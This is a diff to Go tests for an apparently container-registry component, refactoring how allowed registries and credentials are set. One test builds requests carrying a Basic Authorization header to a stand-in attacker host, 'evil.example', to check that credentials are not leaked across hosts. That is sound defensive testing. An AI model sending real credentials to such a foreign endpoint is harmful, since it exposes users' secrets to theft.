@@ -25,12 +25,14 @@ func source(t *testing.T, entries ...string) *Source {
 	if err != nil {
 		t.Fatal(err)
 	}
-	return &Source{Registries: registries, Fetched: func(int64) {}}
+	s := &Source{Fetched: func(int64) {}}
+	s.Allow(registries, nil)
+	return s
 }
 
 func TestWhichRegistriesAreAllowed(t *testing.T) {
 	r := source(t, "docker.io", "ghcr.io", "*.example.org", "host.example:8443",
-		"http://127.0.0.1:5000").Registries
+		"http://127.0.0.1:5000").allowed.Load().registries
 	for ref, want := range map[string]bool{
 		"busybox": true, "library/busybox:1": true, "docker.io/a/b": true,
 		"index.docker.io/a/b": true,
@@ -159,10 +161,11 @@ func TestCredentialsAreANamespacesOwn(t *testing.T) {
 	if err := os.WriteFile(file, []byte(content), 0o600); err != nil {
 		t.Fatal(err)
 	}
-	var err error
-	if s.Credentials, err = ReadCredentials(file); err != nil {
+	credentials, err := ReadCredentials(file)
+	if err != nil {
 		t.Fatal(err)
 	}
+	s.Allow(s.allowed.Load().registries, credentials)
 	secret := "Basic " + base64.StdEncoding.EncodeToString([]byte("u:p"))
 	refused(t, s, host+"/a:1", Unauthorized, "")
 	if got := strings.Join(sent, ","); !strings.Contains(got, secret) {
@@ -213,7 +216,7 @@ func TestCredentialsStayWithTheirOwner(t *testing.T) {
 		}
 	}
 	s := source(t, "ghcr.io")
-	way := newRoad(s.Registries, "ghcr.io", true, s.Fetched)
+	way := newRoad(s.allowed.Load().registries, "ghcr.io", true, s.Fetched)
 	for _, method := range []string{http.MethodGet, http.MethodPost} {
 		r, _ := http.NewRequest(method, "https://evil.example/token", nil)
 		r.Header.Set("Authorization", "Basic x")
